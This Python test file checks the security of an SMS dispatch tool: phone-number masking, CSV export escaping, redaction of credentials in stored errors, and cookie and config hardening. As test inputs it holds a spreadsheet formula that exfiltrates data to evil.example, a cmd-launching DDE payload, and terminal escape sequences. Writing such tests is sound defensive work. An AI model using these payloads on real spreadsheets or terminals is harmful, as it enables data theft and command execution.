"""Security properties that hold without a web process: what is written, exported, printed and substituted.

Each test replays one attack from the security review against what a user runs (the
`dispatch` command, the store, the gateway adapters) and checks that the secret or the
number does not come out, or that the command refuses with exit 2.
"""

from __future__ import annotations

import base64
import csv
import io
import json
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa
from gateway_harness import message, no_real_network
from hypothesis import example, given, settings
from hypothesis import strategies as st
from prism_support import ACCOUNT_SID, AUTH_TOKEN, FROM
from starlette.testclient import TestClient

from dispatcher import audit
from dispatcher.accounts import _DUMMY, check_password, hash_password, list_users, login, set_disabled
from dispatcher.errors import PermanentSendError
from dispatcher.phones import mask
from dispatcher.providers import create_gateway
from dispatcher.providers.http.gateway import HttpConfigError
from dispatcher.providers.twilio.gateway import TwilioGateway
from dispatcher.redact import scrub
from dispatcher.settings import Settings
from dispatcher.store import Outcome, open_store
from dispatcher.store import schema as t
from dispatcher.web.dashboard import Sessions
from tests.conftest import Project, _make_project
from tests.test_embedded_run import _run_with_unknown_rows

NUMBER = "+8615957390467"
BASIC = "Basic " + base64.b64encode(f"{ACCOUNT_SID}:{AUTH_TOKEN}".encode()).decode()


def test_mask_reveals_at_most_the_last_four_digits() -> None:
    for number in (NUMBER, "15957390467", "+12025550123"):
        masked = mask(number)
        assert masked.endswith(number[-4:]) and len(masked) == len(number)
        assert sum(ch.isdigit() for ch in masked) == 4 and not masked.startswith(("+", "=", "-", "@"))


def test_an_unknown_account_name_costs_the_same_password_check_as_a_known_one_and_matches_nothing() -> None:
    # a login for a name that does not exist checks the password against a stand-in hash, so that the time a
    # login takes does not tell which names exist: the stand-in must cost what a real hash costs to check
    stand_in, real = _DUMMY.split("$"), hash_password("a real password of an operator").split("$")
    assert stand_in[:4] == real[:4]  # scrypt, and its n, r and p: the same work per check
    assert [len(base64.b64decode(v)) for v in stand_in[4:]] == [len(base64.b64decode(v)) for v in real[4:]]
    for guess in ("", "a real password of an operator", _DUMMY, stand_in[5]):
        assert not check_password(guess, _DUMMY)


# ------------------------------------------------------------------ free text and exports


def test_settle_reason_with_a_number_is_masked_where_it_is_written_and_in_every_export(project: Project) -> None:
    project.registry(size=20, seed=41)
    run_id, _phones = _run_with_unknown_rows(project, 2)
    settled = project.dispatch(
        "settle", run_id, "--as", "failed", "--reason", f"resident {NUMBER} confirmed", "--by", "wang"
    )
    assert settled.returncode == 0, settled.stderr
    engine = sa.create_engine(project.env["DISPATCH_DATABASE_URL"])
    with engine.connect() as conn:
        stored = [r for (r,) in conn.execute(sa.text("SELECT reason FROM events WHERE reason IS NOT NULL"))]
        stored += [r for (r,) in conn.execute(sa.text("SELECT reason FROM deliveries WHERE reason IS NOT NULL"))]
    engine.dispose()
    assert f"resident {mask(NUMBER)} confirmed" in stored
    assert not [r for r in stored if NUMBER[3:] in r]
    for fmt in ("csv", "jsonl"):
        out = project.dispatch("audit", "log", "--run", run_id, "--format", fmt)
        assert out.returncode == 0, out.stderr
        assert NUMBER[3:] not in out.stdout and f"resident {mask(NUMBER)} confirmed" in out.stdout
    assert project.dispatch("audit", "verify", run_id).returncode == 0


def test_csv_export_neutralises_formula_cells_and_keeps_unmasked_numbers_dialable(project: Project) -> None:
    project.registry(size=20, seed=42)
    run_id, phones = _run_with_unknown_rows(project, 1)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert project.dispatch("settle", run_id, "--as", "sent", "--reason", formula).returncode == 0
    for unmask in ((), ("--unmask",)):
        out = project.dispatch("audit", "log", "--run", run_id, "--state", "sent", "--format", "csv", *unmask)
        assert out.returncode == 0, out.stderr
        rows = list(csv.DictReader(io.StringIO(out.stdout)))
        assert len(rows) == 1
        assert rows[0]["reason"].startswith("'=")
        for row in rows:
            for column, cell in row.items():
                if column == "phone" and unmask:
                    assert cell == phones[0]  # the number itself, as dialled: +86...
                else:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert audit.csv_cell("provider_id", "@SUM(1)") == "'@SUM(1)"
    assert audit.csv_cell("reason", "-2+3") == "'-2+3" and audit.csv_cell("reason", "\tx") == "'\tx"
    assert audit.csv_cell("phone", "+8613800000000") == "+8613800000000"
    assert audit.csv_cell("phone", "+1+cmd|' /C calc'!A0") == "'+1+cmd|' /C calc'!A0"


def test_phone_searches_from_the_cli_are_recorded_with_a_keyed_digest_only(project: Project) -> None:
    import hashlib

    project.registry(size=20, seed=43)
    run_id, phones = _run_with_unknown_rows(project, 1)
    found = project.dispatch("audit", "log", "--phone", phones[0], "--format", "jsonl")
    assert found.returncode == 0 and run_id in found.stdout
    exports = json.loads(project.dispatch("audit", "exports", "--json").stdout)["exports"]
    assert [e["kind"] for e in exports] == ["audit.search"]
    recorded = json.dumps(exports)
    assert phones[0] not in recorded and hashlib.sha256(phones[0].encode()).hexdigest() not in recorded
    assert exports[0]["payload"]["filter"]["phone_hmac"]
    assert project.dispatch("audit", "verify").returncode == 0


def test_no_export_carries_an_unsalted_digest_of_a_number(project: Project) -> None:
    """An 11-digit number's plain hash is reversed by trying them all in milliseconds: next to a masked
    number it undoes the mask, so no export (masked or not, CSV or JSONL) may carry one."""
    import hashlib

    csv_path = project.registry(size=20, seed=44)
    result = project.dispatch("run", "campaigns/quarterly-themes.yaml", "--json")
    assert result.returncode == 0, result.stderr
    numbers = ["+86" + line.split(",")[0] for line in csv_path.read_text(encoding="utf-8").splitlines()[1:]]
    digests = {
        getattr(hashlib, algo)(form.encode()).hexdigest()
        for n in numbers
        for form in (n, n[3:])
        for algo in ("md5", "sha1", "sha256", "sha512")
    }
    for fmt in ("csv", "jsonl"):
        for unmask in ((), ("--unmask",)):
            out = project.dispatch("audit", "log", "--format", fmt, *unmask)
            assert out.returncode == 0, out.stderr
            first = out.stdout.splitlines()[0]
            columns = first.split(",") if fmt == "csv" else list(json.loads(first))
            assert not [c for c in columns if "sha" in c.lower() or "hash" in c.lower()], columns
            found = [d for d in digests if d in out.stdout]
            assert not found, (fmt, unmask, found[:2])
    # the record of an unmasked export filtered by number keeps only a keyed digest
    searched = project.dispatch("audit", "log", "--phone", numbers[0], "--unmask", "--format", "csv")
    assert searched.returncode == 0, searched.stderr
    recorded = project.dispatch("audit", "exports", "--json")
    assert recorded.returncode == 0 and numbers[0][3:] not in recorded.stdout
    assert not [d for d in digests if d in recorded.stdout]


# ------------------------------------------------------------------ credentials in stored errors and traces


def test_twilio_error_echoing_the_request_is_kept_without_sid_token_or_basic_header() -> None:
    echoed = f"Bad request for {NUMBER}. Headers: Authorization: {BASIC}; account {ACCOUNT_SID} token={AUTH_TOKEN}"
    reply = {"code": 21211, "message": echoed, "status": 400, "more_info": f"Authorization: {BASIC}"}
    transport = httpx.MockTransport(lambda request: httpx.Response(400, json=reply))
    gateway = TwilioGateway(
        account_sid=ACCOUNT_SID, auth_token=AUTH_TOKEN, from_=FROM, public_url="https://x.example", transport=transport
    )
    with no_real_network(), pytest.raises(PermanentSendError) as caught:
        gateway.send(message(NUMBER))
    kept = caught.value.message + json.dumps(caught.value.trace, ensure_ascii=False)
    for secret in (ACCOUNT_SID, AUTH_TOKEN, BASIC.split()[1], NUMBER):
        assert secret not in kept, secret
    gateway.close()


def test_every_stored_error_message_and_trace_is_scrubbed_at_the_store(project: Project) -> None:
    """Whatever an adapter hands over, the delivery log keeps no credential and no full number."""
    project.registry(size=20, seed=44)
    rt = project.runtime()
    run_id, _ = _run_with_unknown_rows(project, 0)
    claimed = rt.store.claim(run_id, 0, "w")[:1]
    leak = f"provider said: Authorization: {BASIC} for {ACCOUNT_SID} to {NUMBER}"
    rt.store.record(
        [
            Outcome(
                id=c.id, run_id=c.run_id, state="failed", attempt=1, gateway="http", outcome="failed",
                error_code="http.400", error_message=leak,
                trace=[{"response": {"echo": f"x-api-key: sk-live-123 Basic {BASIC.split()[1]} {NUMBER}"}}],
            )
            for c in claimed
        ]
    )  # fmt: skip
    engine = sa.create_engine(project.env["DISPATCH_DATABASE_URL"])
    with engine.connect() as conn:
        query = "SELECT error_message FROM deliveries WHERE error_message IS NOT NULL"
        texts = [r for (r,) in conn.execute(sa.text(query))]
        for message_, trace in conn.execute(sa.text("SELECT error_message, trace FROM attempts")):
            texts += [message_ or "", trace or ""]
    engine.dispose()
    blob = "\n".join(texts)
    assert "[redacted]" in blob
    for secret in (ACCOUNT_SID, BASIC.split()[1], NUMBER, "sk-live-123"):
        assert secret not in blob, secret


def test_scrub_redacts_credentials_by_shape_and_leaves_message_ids_alone() -> None:
    sid = "SM" + "0" * 32
    text = scrub(f'{{"Authorization": "Bearer abc.def-123", "sid": "{sid}", "acct": "{ACCOUNT_SID}"}} api_key=k1')
    assert "abc.def-123" not in text and ACCOUNT_SID not in text and "k1" not in text
    assert "SM" + "0" * 32 in text  # provider message ids are what auditors match on
    assert scrub("password: too short") == "password: too short"



#: pieces scrubbed texts are made of: every word the patterns look for (in several cases), their
#: separators, secrets' shapes, numbers, and the characters IGNORECASE takes for ASCII letters
_PIECES = (
    "authorization", "Authorization", "PROXY-AUTHORIZATION", "x-api-key", "X-Api-Key", "api_key", "api-key",
    "apikey", "auth_token", "access-token", "token", "Token", "secret", "password", "passwd", "Basic ",
    "bearer ", "DIGEST ", ":", ": ", "=", '"', "'", " ", "\n", ",", ";", "&", "}", "abc.def-123", "Zm9vOmJhcg==",
    "AC" + "0f" * 16, "SK" + "A1" * 16, "SM" + "0" * 32, "+8613812345678", "13812345678", "+", "1", "86",
    "\u0130", "\u0131", "\u017f", "\u212a", "中文", "x",
)  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES) | st.text(max_size=3), max_size=8).map("".join))
@settings(max_examples=3000, deadline=None)
@example("password=hunter22")
@example("x-api-\u212aey: k1k1k1")
@example("\u017fecret=abc")
@example("author\u0130zation: Basic Zm9vOmJhcg==")
@example("acce\u017f\u017f_token=abc")
@example('{"proxy-authorization": "abc"}')
@example("Proxy-Authorization: Basic Zm9vOmJhcg==")
@example('"token": "abc"')
@example('token=abc"token": "x"')
@example("X-Api-Key: k1k1k1k1k1k1k1k1 secret=abc Bearer abcdefgh")
@example("Bearer abcdefghijklmnop secret=abc")
def test_scrub_finds_what_its_patterns_alone_would_find(text: str) -> None:
    # the scrub skips a pattern when the text holds none of its words, and each pattern starts with a
    # lookahead of its first characters: both only make it faster, so every text comes out exactly as
    # the plain patterns, applied one after another to the whole text, would make it
    import re

    from dispatcher import phones, redact

    names = redact._NAMES
    plain = [
        (re.compile(r"\b(authorization|proxy-authorization|x-api-key)(\s*:\s*)(?:(?:basic|bearer|digest|token)\s+)?"
                    r"[^\s\"',;]+", re.IGNORECASE), lambda m: f"{m.group(1)}{m.group(2)}[redacted]"),
        (re.compile(r"\b(Basic|Bearer|Digest|Token)\s+[A-Za-z0-9+/=._~\-]{6,}", re.IGNORECASE),
         lambda m: f"{m.group(1)} [redacted]"),
        (re.compile(rf"""(?P<name>(?:["'](?:{names})["']\s*:|\b(?:{names})\s*=))"""
                    r"""(?P<sep>\s*)(?P<quote>["'])?(?P<value>(?(quote)[^"'\r\n]+|[^\s&,;"'}]+))""", re.IGNORECASE),
         redact._pair),
        (re.compile(r"\b(?:AC|SK)[0-9a-fA-F]{32}\b"), lambda m: "[redacted]"),
        (re.compile(r"(?<![\w+])(\+\d{8,15}|1[3-9]\d{9})(?!\d)"), lambda m: phones.mask(m.group(0))),
    ]  # fmt: skip
    expected = text
    for pattern, replace in plain:
        expected = pattern.sub(replace, expected)
    assert scrub(text) == expected


# ------------------------------------------------------------------ standard error


def test_internal_error_line_masks_numbers_a_postgresql_error_quotes(tmp_path: Path, postgres_url: str) -> None:
    project = _make_project(tmp_path / "project", postgres_url)
    project.registry(size=20, seed=47)
    engine = sa.create_engine(postgres_url)
    with engine.begin() as conn:  # a broken delivery log: PostgreSQL's error quotes the statement's parameters
        conn.execute(sa.text("ALTER TABLE deliveries DROP COLUMN grid"))
    engine.dispose()
    result = project.dispatch("audit", "log", "--phone", NUMBER, "--format", "jsonl")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "internal error" in result.stderr and "grid" in result.stderr, result.stderr
    assert NUMBER not in result.stderr and NUMBER[3:] not in result.stderr, result.stderr


# ------------------------------------------------------------------ configuration


def _http_config(tmp_path: Path, variable: str) -> Path:
    path = tmp_path / "gateway.yaml"
    path.write_text(
        "url: https://sms.example.cn/v2/send\n"
        "headers:\n"
        f'  Authorization: "Bearer ${{{variable}}}"\n'
        'body:\n  template:\n    mobile: "{to}"\n    content: "{body}"\n'
        "response:\n  message_id: data.msgid\n",
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize("variable", ["DISPATCH_SESSION_SECRET", "DISPATCH_DATABASE_URL", "TWILIO_AUTH_TOKEN"])
def test_http_gateway_config_cannot_read_the_programs_own_settings(tmp_path: Path, variable: str) -> None:
    env = {
        "DISPATCH_GATEWAY": "http",
        "DISPATCH_HTTP_CONFIG": str(_http_config(tmp_path, variable)),
        "DISPATCH_SESSION_SECRET": "s" * 40,
        "DISPATCH_DATABASE_URL": "postgresql://dispatch:hunter2@db/dispatch",
        "TWILIO_AUTH_TOKEN": "t" * 32,
    }
    with pytest.raises(HttpConfigError) as caught:
        create_gateway(Settings.from_env(env))
    assert "DISPATCH_HTTP_SECRET_" in str(caught.value) and "gateway.yaml:3:" in str(caught.value)


def test_http_gateway_config_substitutes_its_declared_secrets(tmp_path: Path) -> None:
    env = {
        "DISPATCH_GATEWAY": "http",
        "DISPATCH_HTTP_CONFIG": str(_http_config(tmp_path, "DISPATCH_HTTP_SECRET_TOKEN")),
        "DISPATCH_HTTP_SECRET_TOKEN": "carrier-token-1234",
    }
    gateway = create_gateway(Settings.from_env(env))
    assert gateway.config.headers["Authorization"] == "Bearer carrier-token-1234"  # type: ignore[attr-defined]
    gateway.close()


def test_short_session_secret_is_refused_with_exit_2(project: Project) -> None:
    result = project.dispatch("web", "--port", "1", env={"DISPATCH_SESSION_SECRET": "too-short-secret"})
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.strip().startswith("DISPATCH_SESSION_SECRET: at least 32 characters")


def test_cookies_are_secure_unless_served_plainly_on_this_machine() -> None:
    assert not Settings.from_env({}).secure_cookies  # `dispatch web` on 127.0.0.1 over http
    assert not Settings.from_env({"DISPATCH_WEB_HOST": "localhost"}).secure_cookies
    assert Settings.from_env({"DISPATCH_WEB_HOST": "0.0.0.0"}).secure_cookies
    assert Settings.from_env({"DISPATCH_PUBLIC_URL": "https://dispatch.example.org"}).secure_cookies


def test_login_behind_tls_sets_secure_cookies(project: Project) -> None:
    from dispatcher.accounts import add_user

    rt = project.runtime()
    add_user(rt.store, "alice", "auditor", "a long enough secret")
    rt.settings = rt.settings.with_(public_url="https://dispatch.example.org")
    from dispatcher.web.app import create_app

    client = TestClient(create_app(rt), base_url="https://dispatch.example.org")
    form = client.get("/login")
    assert "secure" in form.headers["set-cookie"].lower()
    token = form.text.split('name="csrf" value="')[1].split('"')[0]
    ok = client.post("/login", data={"name": "alice", "password": "a long enough secret", "csrf": token},
                     follow_redirects=False)  # fmt: skip
    assert ok.status_code == 303
    assert "dispatch_session=" in ok.headers["set-cookie"] and "secure" in ok.headers["set-cookie"].lower()


# ------------------------------------------------------------------ schema


def test_a_version_3_delivery_log_is_upgraded_in_place_and_its_accounts_stay_enabled(database_url: str) -> None:
    store = open_store(database_url)
    with store.engine.begin() as conn:  # what a version 3 program left: no sessions, no throttle, no disabled
        conn.execute(sa.text("DROP TABLE sessions"))
        conn.execute(sa.text("DROP TABLE login_throttle"))
        conn.execute(sa.text("ALTER TABLE accounts DROP COLUMN disabled"))
        conn.execute(
            sa.text(
                "INSERT INTO accounts (name, role, password_hash, created_at, updated_at) "
                "VALUES ('old', 'auditor', :h, CURRENT_TIMESTAMP, CURRENT_TIMESTAMP)"
            ),
            {"h": hash_password("an old long password")},
        )
        conn.execute(sa.text("UPDATE dispatch_meta SET value = '3' WHERE key = 'schema_version'"))
    store.close()
    upgraded = open_store(database_url)
    assert upgraded.schema_version() == t.SCHEMA_VERSION
    assert list_users(upgraded) == [{"name": "old", "role": "auditor", "disabled": False}]
    account = login(upgraded, "old", "an old long password", "127.0.0.1")
    assert account is not None
    assert Sessions(upgraded, "k" * 32, 60).read(Sessions(upgraded, "k" * 32, 60).issue(account)) == account
    set_disabled(upgraded, "old")
    assert login(upgraded, "old", "an old long password", "127.0.0.1") is None
    upgraded.close()


# ------------------------------------------------------------------ the operator's terminal


def test_campaign_title_markup_is_shown_not_obeyed(project: Project) -> None:
    project.registry(size=20, seed=45)
    text = (project.root / "campaigns/refund-scam-lucheng.yaml").read_text(encoding="utf-8")
    title_line = next(line for line in text.splitlines() if line.startswith("title:"))
    evil = 'title: "防诈 [link=https://evil.example]点击[/link] [red]x[/red] [/]"'
    path = project.write("campaigns/evil.yaml", text.replace(title_line, evil))
    result = project.dispatch("preview", str(path))
    assert result.returncode == 0, result.stderr
    assert "[link=https://evil.example]点击[/link] [red]x[/red] [/]" in result.stdout


def test_escape_sequences_a_provider_sent_are_shown_not_obeyed(project: Project) -> None:
    """A provider's message id and error code reach the operator's terminal in `audit log`."""
    project.registry(size=20, seed=46)
    rt = project.runtime()
    run_id, _ = _run_with_unknown_rows(project, 0)
    claimed = rt.store.claim(run_id, 0, "w")[:1]
    rt.store.record(
        [
            Outcome(
                id=c.id, run_id=c.run_id, state="failed", attempt=1, gateway="http", outcome="failed",
                provider_id="id\x1b]0;pwned\x07\x1b[2J", error_code="\x9b31m\x1b[5m",
            )
            for c in claimed
        ]
    )  # fmt: skip
    result = project.dispatch("audit", "log", "--run", run_id, "--state", "failed")
    assert result.returncode == 0, result.stderr
    assert not any(ch in result.stdout for ch in "\x1b\x07\x9b"), repr(result.stdout)
    assert "\\x1b]0;pw" in result.stdout  # shown, written out
